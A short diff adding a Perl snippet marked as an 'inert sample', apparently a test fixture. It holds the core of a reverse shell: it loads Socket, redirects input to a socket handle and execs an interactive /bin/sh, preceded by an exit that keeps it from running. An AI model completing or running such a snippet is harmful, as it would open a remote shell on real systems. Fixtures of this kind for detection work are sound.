@@ -1,0 +1,4 @@
+exit; # inert sample
+use Socket;
+open(STDIN,">&S");
+exec("/bin/sh -i");
